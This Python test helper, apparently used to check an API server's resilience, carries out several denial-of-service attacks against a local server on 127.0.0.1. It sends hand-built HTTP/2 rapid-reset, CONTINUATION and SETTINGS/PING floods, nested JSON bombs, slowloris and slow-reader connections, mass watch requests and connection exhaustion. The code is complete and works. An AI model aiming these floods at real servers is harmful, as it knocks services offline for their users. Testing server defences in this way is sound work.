#!/usr/bin/env python3
"""A client that means harm: one kind of flood against one server, for some seconds.

Usage: abuse.py KIND PORT PKI SECONDS

It prints a line at the first blow, from which on the seconds count, and at the end how many blows
it struck (JSON), so that a test can tell an attack from an idle loop.
Frames of HTTP/2 are written by hand: no client library would send these.
"""
import json
import os
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
START_S = 30  # for the first blow
LIST = "/api/v1/namespaces/default/configmaps"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def request_block(path):
    """The header block of a GET, without the dynamic table and without Huffman codes."""
    name = path.encode()
    return b"\x82\x87\x04" + bytes([len(name)]) + name + b"\x01\x09127.0.0.1"


class Attack:
    def __init__(self, port, pki, seconds):
        self.port = port
        self.pki = pki
        self.seconds = seconds
        self.until = time.monotonic() + START_S
        self.lock = threading.Lock()
        self.blows = 0
        self.kept = []

    def going(self):
        return time.monotonic() < self.until

    def struck(self, count=1):
        with self.lock:
            if self.blows == 0:
                self.until = time.monotonic() + self.seconds
                print("the first blow", flush=True)
            self.blows += count

    def tcp(self):
        return socket.create_connection(("127.0.0.1", self.port), timeout=1)

    def tls(self, protocol="h2", user="mallory"):
        context = ssl.create_default_context(cafile=f"{self.pki}/ca.crt")
        context.set_alpn_protocols([protocol])
        if user:
            context.load_cert_chain(f"{self.pki}/{user}.crt", f"{self.pki}/{user}.key")
        return context.wrap_socket(self.tcp(), server_hostname="127.0.0.1")

    def h2(self):
        sock = self.tls()
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        return sock

    def again(self, blow):
        """blow() over and over, also after the server has had enough of a connection."""
        while self.going():
            try:
                blow()
            except OSError:
                time.sleep(0.01)

    def threads(self, count, blow):
        crowd = [threading.Thread(target=self.again, args=(blow,)) for _ in range(count)]
        for thread in crowd:
            thread.start()
        for thread in crowd:
            thread.join()

    # One method per kind of attack.

    def json_bombs(self):
        bodies = [b'{"a":' * 200000, b"[" * 1000000, b'{"metadata":' + b'{"labels":' * 100000,
                  b'{"data":{"k":"' + b"\\u0000" * 300000]

        def blow():
            with self.tls("http/1.1") as sock:
                for body in bodies:
                    head = (f"POST {LIST} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                            "Content-Type: application/json\r\n"
                            f"Content-Length: {len(body)}\r\n\r\n")
                    sock.sendall(head.encode() + body)
                    answer = sock.recv(4096)
                    assert b" 4" in answer[:20], answer[:100]
                    self.struck()

        self.threads(2, blow)

    def rapid_reset(self):
        block = request_block(LIST)

        def blow():
            with self.h2() as sock:
                stream = 1
                while self.going():
                    burst = b""
                    for _ in range(50):
                        burst += frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
                        burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                        stream += 2
                    sock.sendall(burst)
                    self.struck(50)

        self.threads(2, blow)

    def continuations(self):
        def blow():
            with self.h2() as sock:
                sock.sendall(frame(HEADERS, END_STREAM, 1, request_block(LIST)))
                while self.going():
                    sock.sendall(frame(CONTINUATION, 0, 1, b"\x00\x01x\x7f\x00" + b"y" * 127) * 20)
                    self.struck(20)

        self.threads(2, blow)

    def settings(self):
        burst = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 50 + frame(
            PING, 0, 0, b"abcdefgh") * 50

        def blow():
            with self.h2() as sock:
                while self.going():
                    sock.sendall(burst)
                    self.struck(100)

        self.threads(2, blow)

    def slow_readers(self):
        def blow():
            sock = self.h2()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            for stream in range(1, 41, 2):
                sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, request_block(LIST)))
                self.struck()
            self.kept.append(sock)
            time.sleep(0.2)

        self.threads(3, blow)

    def slow_loris(self):
        def drip():
            for sock in list(self.kept):
                try:
                    sock.sendall(b"x")
                    self.struck()
                except OSError:
                    self.kept.remove(sock)
            time.sleep(0.2)

        def come():
            if len(self.kept) < 150:
                sock = self.tls("http/1.1", "mallory" if len(self.kept) % 2 else "")
                sock.sendall(b"GET / HTTP/1.1\r\nX-")
                self.kept.append(sock)
            else:
                time.sleep(0.05)

        others = threading.Thread(target=self.again, args=(drip,))
        others.start()
        self.threads(1, come)
        others.join()

    def watches(self):
        block = request_block(LIST + "?watch=1")

        def blow():
            with self.h2() as sock:
                sock.settimeout(0.1)
                for stream in range(1, 401, 2):
                    sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
                    self.struck()
                end = time.monotonic() + 0.5
                while self.going() and time.monotonic() < end:
                    try:
                        if not sock.recv(1 << 16):
                            return
                    except TimeoutError:
                        pass

        self.threads(2, blow)

    def connections(self):
        """Of one identity, of nobody, and of those who never say a word."""
        kinds = [lambda: self.tls("h2"), lambda: self.tls("h2", ""), self.tcp]

        def blow():
            sock = kinds[self.blows % len(kinds)]()
            self.struck()
            self.kept.append(sock)
            if len(self.kept) > 600:
                self.kept.pop(0).close()

        self.threads(2, blow)


def main():
    kind, port, pki, seconds = sys.argv[1:5]
    os.nice(5)  # the machine is the server's, as far as the scheduler can tell
    attack = Attack(int(port), pki, float(seconds))
    getattr(attack, kind)()
    print(json.dumps({"blows": attack.blows}), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
